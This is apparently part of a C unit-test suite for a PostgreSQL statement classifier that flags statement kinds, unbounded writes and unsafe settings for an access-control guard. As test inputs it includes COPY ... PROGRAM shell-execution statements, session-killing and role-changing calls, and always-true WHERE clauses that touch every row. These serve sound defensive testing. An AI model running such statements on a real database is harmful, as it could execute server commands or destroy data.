		{ "CREATE VIEW v AS SELECT * FROM t WHERE a = 1", 1 },
		{ "ALTER ROLE app SET search_path = x", 1 },
		{ "ALTER SYSTEM SET work_mem = '1MB'", 1 },
		{ "DELETE FROM t WHERE 1 = 0", 1 },
		{ "UPDATE t SET a = 1 WHERE id = 5 OR 1 = 0", 1 },
		/* shapes whose constants are what a grant is for, or are in the fingerprint */
		{ "SELECT * FROM t WHERE id = 1", 0 },
		{ "DELETE FROM t WHERE id = 1", 0 },
		{ "UPDATE t SET a = 'x' WHERE id = 2", 0 },
		{ "INSERT INTO t VALUES (1)", 0 },
		{ "DELETE FROM t", 0 },
		{ "COPY t TO PROGRAM 'x'", 0 },
		{ "EXPLAIN (ANALYZE 0) DELETE FROM t WHERE id = 1", 0 },
		{ "ALTER ROLE x PASSWORD 'y'", 0 },
		{ "FETCH 5 FROM c", 0 },
		{ "EXECUTE p(1)", 0 },
		{ "CREATE TABLE t (a int DEFAULT 5)", 0 },
		{ "BEGIN", 0 },
		{ "GRANT SELECT ON t TO bob", 0 },
		{ "SELECT currval('s')", 0 },
	};

	for (size_t i = 0; i < AL_ARRAY_LEN(c); i++) {
		struct pg_stmt_list l;

		if (classify_one(c[i].sql, &l) < 0)
			continue;
		if (l.stmts[0].grant_exact != c[i].exact) {
			printf("#   %s: grant_exact %d, want %d\n", c[i].sql, l.stmts[0].grant_exact, c[i].exact);
			CHECK(0);
		}
		pg_stmt_list_free(&l);
	}
}

/* kinds: every kind a statement is, for rules that match any (deny, review) or all (allow). */
static void test_kinds(void)
{
	static const struct {
		const char *sql, *kinds;	/* in enum order */
	} c[] = {
		{ "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "delete,merge" },
		{ "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1 "
		  "WHEN NOT MATCHED THEN INSERT VALUES (1)", "insert,update,merge" },
		{ "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING", "merge" },
		{ "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2", "insert,update" },
		{ "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "insert" },
		{ "COPY t FROM STDIN", "insert,copy" },
		{ "COPY t TO STDOUT", "copy" },
		{ "COPY t FROM PROGRAM 'id'", "insert,copy_program" },
		{ "WITH d AS (DELETE FROM t RETURNING *) INSERT INTO l SELECT * FROM d", "insert,delete" },
		{ "SELECT 1", "read" },
		{ "EXPLAIN DELETE FROM t", "read" },
		{ "EXPLAIN ANALYZE MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "delete,merge" },
		{ "PREPARE p AS INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 1", "insert,update" },
		{ "INSERT INTO logs SELECT length(set_config('role', 'x', false))", "insert,dcl" },
		{ "DELETE FROM t WHERE pg_terminate_backend(1)", "delete,utility" },
		{ "SELECT set_config('search_path', 'x', false)", "read,utility" },
		{ "SELECT lo_unlink(1)", "delete" },
		{ "CREATE TABLE x AS SELECT lo_unlink(1)", "delete,ddl" },
		{ "SELECT setval('s', 1)", "update" },
		{ "SELECT nextval('s'), currval('s')", "update" },
		{ "INSERT INTO t VALUES (nextval('s'))", "insert,update" },
		{ "CALL p(nextval('s'))", "update,call" },
		{ "CREATE TABLE x AS SELECT setval('s', 5)", "update,ddl" },
		{ "SELECT currval('s')", "read" },
		{ "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM x", "ddl" },
		{ "CREATE TABLE n AS SELECT * FROM o", "ddl" },
	};

	for (size_t i = 0; i < AL_ARRAY_LEN(c); i++) {
		struct pg_stmt_list l;
		char got[256] = "";
		size_t off = 0;

		if (classify_one(c[i].sql, &l) < 0)
			continue;
		for (int k = 0; k < PG_KIND__COUNT; k++)
			if (l.stmts[0].kinds & (1u << k))
				off += (size_t)snprintf(got + off, sizeof(got) - off, "%s%s", off ? "," : "",
							pg_kind_name((enum pg_kind)k));
		CHECK(l.stmts[0].kinds & (1u << l.stmts[0].kind));
		if (strcmp(got, c[i].kinds)) {
			printf("#   %s: kinds %s, want %s\n", c[i].sql, got, c[i].kinds);
			CHECK(0);
		}
		pg_stmt_list_free(&l);
	}
}

/* Conditions true for every row (or every row where what they test is not null) leave a write
 * unbounded; a real condition ANDed to one bounds it. */
static void test_tautologies(void)
{
	static const struct {
		const char *where;
		int unbounded;
	} c[] = {
		/* the same expression on both sides */
		{ "id = id", 1 },
		{ "t.id = t.id", 1 },
		{ "\"Id\" = \"Id\"", 1 },
		{ "id >= id", 1 },
		{ "id <= id", 1 },
		{ "id OPERATOR(pg_catalog.=) id", 1 },
		{ "id IS NOT DISTINCT FROM id", 1 },
		{ "lower(name) = lower(name)", 1 },
		{ "coalesce(id, 0) = coalesce(id, 0)", 1 },
		{ "id::text = id::text", 1 },
		{ "id IN (id)", 1 },
		{ "id IN (1, 2, id)", 1 },
		{ "NOT (id <> id)", 1 },
		{ "NOT (id < id)", 1 },
		{ "NOT (id IS DISTINCT FROM id)", 1 },
		{ "NOT (id NOT IN (id))", 1 },
		{ "name LIKE '%'", 1 },
		{ "name ILIKE '%%'", 1 },
		{ "name LIKE '%'::text", 1 },
		{ "NOT (name NOT LIKE '%')", 1 },
		/* numbers match any number: the answer cannot depend on them (the cache hides them) */
		{ "x[1] = x[2]", 1 },
		{ "id + 1 = id + 2", 1 },
		/* opposite arms of an OR */
		{ "x IS NOT NULL OR x IS NULL", 1 },
		{ "x IS NULL OR status = 'a' OR x IS NOT NULL", 1 },
		{ "lower(x) IS NULL OR lower(x) IS NOT NULL", 1 },
		{ "flag IS TRUE OR flag IS NOT TRUE", 1 },
		{ "flag IS UNKNOWN OR flag IS NOT UNKNOWN", 1 },
		{ "active OR NOT active", 1 },
		{ "NOT active OR active", 1 },
		{ "NOT (x IS NULL AND x IS NOT NULL)", 1 },
		{ "status = 'a' OR (x IS NULL OR x IS NOT NULL)", 1 },
		/* no column: every row or none */
		{ "1 IN (1)", 1 },
		{ "'a' LIKE '%'", 1 },
		/* OR with a tautology is one; AND with a real condition is bounded */
		{ "id = id OR status = 'a'", 1 },
		{ "status = 'a' OR id = id", 1 },
		{ "(id = id) AND (x IS NULL OR x IS NOT NULL)", 1 },
		{ "id = id AND status = 'a'", 0 },
		{ "status = 'a' AND (x IS NULL OR x IS NOT NULL)", 0 },
		{ "id = 5 AND name LIKE '%'", 0 },
		/* false for every row, or not the same expression, or what this cannot prove */
		{ "id <> id", 0 },
		{ "id < id", 0 },
		{ "id IS DISTINCT FROM id", 0 },
		{ "id NOT IN (id)", 0 },
		{ "NOT (id = id)", 0 },
		{ "name NOT LIKE '%'", 0 },
		{ "x IS NULL AND x IS NOT NULL", 0 },
		{ "id = id2", 0 },
		{ "t.id = id", 0 },
		{ "lower(name) = upper(name)", 0 },
		{ "id IN (1, 2)", 0 },
		{ "name LIKE 'a%'", 0 },
		{ "name LIKE '%' ESCAPE '!'", 0 },
		{ "name LIKE '_%'", 0 },
		{ "x IS NULL OR y IS NOT NULL", 0 },
		{ "x IS NOT NULL", 0 },
		{ "flag IS TRUE OR flag IS NOT FALSE", 0 },
		{ "active OR NOT other", 0 },
		{ "id > 0", 0 },
		{ "(id = id) = true", 0 },
		{ "id = ANY (ARRAY[id])", 0 },
		{ "id BETWEEN id AND id", 0 },
		{ "id IN (SELECT id FROM u)", 0 },
	};

	for (size_t i = 0; i < AL_ARRAY_LEN(c); i++) {
		static const char *const forms[][2] = { { "DELETE FROM t WHERE ", "" },
							{ "UPDATE t SET a = 1 WHERE ", "" },
							{ "MERGE INTO t USING s ON ", " WHEN MATCHED THEN DELETE" } };

		for (size_t f = 0; f < AL_ARRAY_LEN(forms); f++) {
			struct pg_stmt_list l;
			char sql[512];

			snprintf(sql, sizeof(sql), "%s%s%s", forms[f][0], c[i].where, forms[f][1]);
			if (classify_one(sql, &l) < 0)
				continue;
			/* a condition that may take every row: the fingerprint does not tell it from
			 * one that does not (LIKE '%' and LIKE 'a%'), so a grant is for its text */
			if (l.stmts[0].unbounded_write != c[i].unbounded || l.stmts[0].grant_exact != c[i].unbounded) {
				printf("#   %s: unbounded_write %d grant_exact %d, want %d\n", sql, l.stmts[0].unbounded_write,
				       l.stmts[0].grant_exact, c[i].unbounded);
				CHECK(0);
			}
			pg_stmt_list_free(&l);
		}
	}
	/* An OR of many tests compares them pairwise: within the budget it is decided, past it
	 * taken as one that may hold for every row (never let through undecided). */
	for (int many = 0; many < 2; many++) {
		static char sql[64 * 1024];
		struct pg_stmt_list l;
		size_t off = (size_t)snprintf(sql, sizeof(sql), "DELETE FROM t WHERE a0 IS NULL");

		for (int i = 1; i < (many ? 2000 : 300); i++)
			off += (size_t)snprintf(sql + off, sizeof(sql) - off, " OR a%d IS NULL", i);
		if (classify_one(sql, &l) < 0)
			continue;
		CHECK(l.stmts[0].unbounded_write == many);
		pg_stmt_list_free(&l);
	}
}

static void test_parse_error(void)
{
	struct pg_stmt_list l;
	char err[256] = "";

	CHECK(pg_classify("SELECT 1; SELEC * FROM t", &l, err, sizeof(err)) == -1);
	CHECK(l.n == 0 && l.stmts == NULL);
	CHECK(strstr(err, "syntax error at or near \"SELEC\"") != NULL);
	CHECK(strstr(err, "at character 11") != NULL);
	pg_stmt_list_free(&l);
	CHECK(pg_classify("SELECT 'unterminated", &l, err, sizeof(err)) == -1);
	CHECK(strstr(err, "unterminated") != NULL);
	/* A tiny error buffer truncates, it does not overflow. */
	CHECK(pg_classify("SELEC", &l, err, 8) == -1 && strlen(err) == 7);
}

/* Statements nested deeper than the parser can safely serialize are refused, not crashed on. */
static void test_deep_nesting_refused(void)
{
	static char sql[64 * 1024];
	struct pg_stmt_list l;
	char err[256];
	size_t off = 0;

	off += (size_t)snprintf(sql, sizeof(sql), "SELECT 1");
	for (int i = 0; i < 20000 && off + 3 < sizeof(sql); i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "-1");
	CHECK(pg_classify(sql, &l, err, sizeof(err)) == -1);
	CHECK(strstr(err, "nested too deeply") != NULL);
	off = (size_t)snprintf(sql, sizeof(sql), "SELECT ");
	for (int i = 0; i < 3000; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "(SELECT ");
	off += (size_t)snprintf(sql + off, sizeof(sql) - off, "1");
	for (int i = 0; i < 3000; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, ")");
	CHECK(pg_classify(sql, &l, err, sizeof(err)) == -1);
	/* Long flat statements are fine. */
	off = (size_t)snprintf(sql, sizeof(sql), "SELECT * FROM t WHERE a IN (0");
	for (int i = 1; i < 5000; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, ",%d", i);
	off += (size_t)snprintf(sql + off, sizeof(sql) - off, ") AND b = 1");
	for (int i = 0; i < 1000; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, " AND c = %d", i);
	CHECK(pg_classify(sql, &l, err, sizeof(err)) == 0 && l.n == 1);
	pg_stmt_list_free(&l);
	/* Separators that do not end what nests across them: the AND of BETWEEN (the audit's
	 * repro), joins over ON clauses with AND, and groups wrapped by what follows them. */
	off = (size_t)snprintf(sql, sizeof(sql), "SELECT 1 WHERE ");
	for (int i = 0; i < 1500; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "x BETWEEN 0 AND NOT ");
	off += (size_t)snprintf(sql + off, sizeof(sql) - off, "true");
	CHECK(pg_classify(sql, &l, err, sizeof(err)) == -1);
	CHECK(strstr(err, "nested too deeply") != NULL);
	off = (size_t)snprintf(sql, sizeof(sql), "SELECT 1 FROM a");
	for (int i = 0; i < 3000; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, " JOIN a ON x AND y");
	CHECK(pg_classify(sql, &l, err, sizeof(err)) == -1);
	for (int cast = 0; cast < 2; cast++) {
		off = (size_t)snprintf(sql, sizeof(sql), "SELECT ");
		for (int i = 0; i < 60; i++)
			off += (size_t)snprintf(sql + off, sizeof(sql) - off, "(");
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "1");
		for (int i = 0; i < 60; i++) {
			off += (size_t)snprintf(sql + off, sizeof(sql) - off, ")");
			for (int k = 0; k < 100; k++)
				off += (size_t)snprintf(sql + off, sizeof(sql) - off, cast ? "::t" : "+1");
		}
		CHECK(pg_classify(sql, &l, err, sizeof(err)) == -1);
		CHECK(strstr(err, "nested too deeply") != NULL);
	}
	off = (size_t)snprintf(sql, sizeof(sql), "CREATE FUNCTION f() RETURNS int LANGUAGE sql ");
	for (int i = 0; i < 2000; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "BEGIN ATOMIC SELECT 1; ");
	for (int i = 0; i < 2000; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "END; ");
	CHECK(pg_classify(sql, &l, err, sizeof(err)) == -1);
	/* Flat uses of the same separators are fine. */
	off = (size_t)snprintf(sql, sizeof(sql), "SELECT CASE");
	for (int i = 0; i < 2000; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, " WHEN a = %d THEN -%d", i, i);
	off += (size_t)snprintf(sql + off, sizeof(sql) - off, " END FROM t WHERE ");
	for (int i = 0; i < 500; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "%sx%d BETWEEN 0 AND %d", i ? " AND " : "", i, i);
	off += (size_t)snprintf(sql + off, sizeof(sql) - off, " ORDER BY (a)::int::text, (b)::int::text");
	CHECK(pg_classify(sql, &l, err, sizeof(err)) == 0 && l.n == 1);
	pg_stmt_list_free(&l);
	off = (size_t)snprintf(sql, sizeof(sql), "SELECT * FROM a0");
	for (int i = 1; i < 60; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, " JOIN a%d ON a%d.id = a%d.id AND a%d.x > 0", i, i,
					i - 1, i);
	CHECK(pg_classify(sql, &l, err, sizeof(err)) == 0 && l.n == 1);
	pg_stmt_list_free(&l);
	CHECK(pg_classify("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT (2); END",
			  &l, err, sizeof(err)) == 0 && l.n == 1);
	pg_stmt_list_free(&l);
	/* A moderately nested statement is fine. */
	off = (size_t)snprintf(sql, sizeof(sql), "SELECT ");
	for (int i = 0; i < 100; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, "(SELECT ");
	off += (size_t)snprintf(sql + off, sizeof(sql) - off, "1");
	for (int i = 0; i < 100; i++)
		off += (size_t)snprintf(sql + off, sizeof(sql) - off, ")");
	CHECK(pg_classify(sql, &l, err, sizeof(err)) == 0 && l.n == 1);
	pg_stmt_list_free(&l);
}

static void test_json_shape(void)
{
	struct pg_stmt_list l;
	char err[64], *s;
	json_t *j, *o;
	json_error_t je;
	const char *key;
	json_t *v;
	static const char *const keys[] = { "text", "kind", "relations", "unbounded_write", "fingerprint",
					    "unsafe_setting", "grant_exact", "kinds" };
	size_t k = 0;

	CHECK(pg_classify("SELECT * FROM a, b; DELETE FROM c", &l, err, sizeof(err)) == 0);
	s = pg_stmt_list_json(&l, 0);
	CHECK(s != NULL);
	j = s ? json_loads(s, 0, &je) : NULL;
	CHECK(json_is_array(j) && json_array_size(j) == 2);
	o = json_array_get(j, 0);
	CHECK(json_object_size(o) == AL_ARRAY_LEN(keys));
	json_object_foreach(o, key, v) {
		CHECK(k < AL_ARRAY_LEN(keys) && !strcmp(key, keys[k]));
		k++;
	}
	CHECK_STR(json_string_value(json_object_get(o, "text")), "SELECT * FROM a, b");
	CHECK_STR(json_string_value(json_object_get(o, "kind")), "read");
	CHECK(json_array_size(json_object_get(o, "relations")) == 2);
	CHECK_STR(json_string_value(json_array_get(json_object_get(o, "relations"), 1)), "b");
	CHECK(json_is_false(json_object_get(o, "unbounded_write")));
	CHECK(strlen(json_string_value(json_object_get(o, "fingerprint"))) == PG_FINGERPRINT_LEN);
	o = json_array_get(j, 1);
	CHECK_STR(json_string_value(json_object_get(o, "kind")), "delete");
	CHECK(json_is_true(json_object_get(o, "unbounded_write")));
	json_decref(j);
	free(s);
	s = pg_stmt_list_json(&l, 1);
	CHECK(s && strchr(s, '\n'));
	free(s);
	pg_stmt_list_free(&l);

	/* Empty input renders as an empty array; invalid UTF-8 still renders as valid JSON. */
	CHECK(pg_classify("", &l, err, sizeof(err)) == 0);
	s = pg_stmt_list_json(&l, 0);
	CHECK_STR(s, "[]");
	free(s);
	CHECK(pg_classify("SELECT 'a\xff\xfe' FROM \"t\xc3\"", &l, err, sizeof(err)) == 0);
	s = pg_stmt_list_json(&l, 0);
	j = s ? json_loads(s, 0, &je) : NULL;
	CHECK(json_is_array(j) && json_array_size(j) == 1);
	json_decref(j);
	free(s);
	pg_stmt_list_free(&l);
}

static void test_text_output(void)
{
	struct pg_stmt_list l;
	char err[64], *buf = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&buf, &len);

	CHECK(pg_classify("UPDATE t SET a = 1", &l, err, sizeof(err)) == 0);
	CHECK(f && pg_stmt_list_print(&l, f) == 0);
	fclose(f);
	CHECK(buf && strstr(buf, "kind: update (unbounded write") && strstr(buf, "relations: t"));
	CHECK(buf && !strstr(buf, "unsafe setting"));
	free(buf);
	pg_stmt_list_free(&l);
	buf = NULL;
	f = open_memstream(&buf, &len);
	CHECK(pg_classify("SET client_encoding = 'SJIS'", &l, err, sizeof(err)) == 0);
	CHECK(f && pg_stmt_list_print(&l, f) == 0);
	fclose(f);
	CHECK(buf && strstr(buf, "unsafe setting: it changes how the server reads"));
	CHECK(buf && strstr(buf, "grant: its exact text only"));
	free(buf);
	pg_stmt_list_free(&l);
}

static void test_kind_names(void)
{
	enum pg_kind k;

	for (int i = 0; i < PG_KIND__COUNT; i++) {
		CHECK(pg_kind_parse(pg_kind_name((enum pg_kind)i), &k) == 0 && (int)k == i);
	}
	CHECK_STR(pg_kind_name(PG_KIND_COPY_PROGRAM), "copy_program");
	CHECK(pg_kind_parse("select", &k) == -1);
	CHECK(pg_kind_is_dml(PG_KIND_MERGE) && !pg_kind_is_dml(PG_KIND_COPY));
}

int main(void)
{
	RUN(test_kind_table);
	RUN(test_multi_statement_split);
	RUN(test_empty_and_comment_only);
	RUN(test_fingerprints);
	RUN(test_prepared_names);
	RUN(test_execute_and_portal_names);
	RUN(test_unsafe_settings);
	RUN(test_grant_exact);
	RUN(test_kinds);
	RUN(test_tautologies);
	RUN(test_parse_error);
	RUN(test_deep_nesting_refused);
	RUN(test_json_shape);
	RUN(test_text_output);
	RUN(test_kind_names);
	TEST_EXIT();
}
